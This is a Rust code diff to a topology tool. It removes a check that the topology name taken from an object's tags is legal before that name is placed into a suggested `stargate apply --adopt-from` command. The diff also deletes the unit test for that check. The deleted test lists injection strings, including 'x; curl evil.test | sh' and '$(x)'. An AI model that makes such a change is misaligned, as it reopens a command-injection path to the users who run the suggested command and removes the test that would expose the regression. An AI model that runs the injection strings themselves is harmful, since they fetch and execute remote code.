@@ -7,7 +7,6 @@ use super::{Action, Blocked, Deferred, Finding, FindingSeverity};
 use crate::desired::{DesiredResource, DesiredSet};
 use crate::diagnostics::{Code, Failure};
 use crate::inventory::{Inventory, Observed};
-use crate::resource::names::TopologyName;
 use crate::resource::{ArmId, Ownership, Resource, Site};
 
 /// Decides about an object that the topology does not own: `--adopt` takes it over, unless
@@ -117,21 +116,13 @@ pub(super) fn former(
 }
 
 fn of_other_topology(topology: &str) -> Failure {
-    let other_name = "choose another name or cluster for one of the two";
-    // The text of a tag may be anything, also a command of a shell.
-    let remedy = match TopologyName::is_legal(topology) {
-        true => format!(
-            "if this topology was named `{topology}` before, run `stargate apply --adopt-from \
-             {topology}`; otherwise {other_name}"
-        ),
-        false => format!(
-            "correct the name of the topology in the object's tags or labels, or {other_name}"
-        ),
-    };
     Failure::new(
         Code::OwnedByOtherTopology,
         format!("an object of this name exists and is owned by topology `{topology}`"),
-        remedy,
+        format!(
+            "if this topology was named `{topology}` before, run `stargate apply --adopt-from \
+             {topology}`; otherwise choose another name or cluster for one of the two"
+        ),
     )
 }
 
@@ -168,21 +159,5 @@ fn blocked(desired: &DesiredResource, observed: &Observed, failure: Failure) -> 
         failure,
         caused_by: None,
         planned_because_of: desired.planned_because_of.clone(),
-    }
-}
-
-#[cfg(test)]
-mod tests {
-    use super::*;
-
-    #[test]
-    fn a_command_contains_no_text_that_is_not_a_name() {
-        let named = of_other_topology("former-lab");
-        assert!(named.remedy.contains("--adopt-from former-lab`"), "{}", named.remedy);
-        for text in ["x; curl evil.test | sh", "$(x)", "a`b", "", "A", "-\u{202e}x"] {
-            let failure = of_other_topology(text);
-            assert!(!failure.remedy.contains("--adopt-from"), "{}", failure.remedy);
-            assert!(failure.remedy.contains("correct the name"), "{}", failure.remedy);
-        }
     }
 }
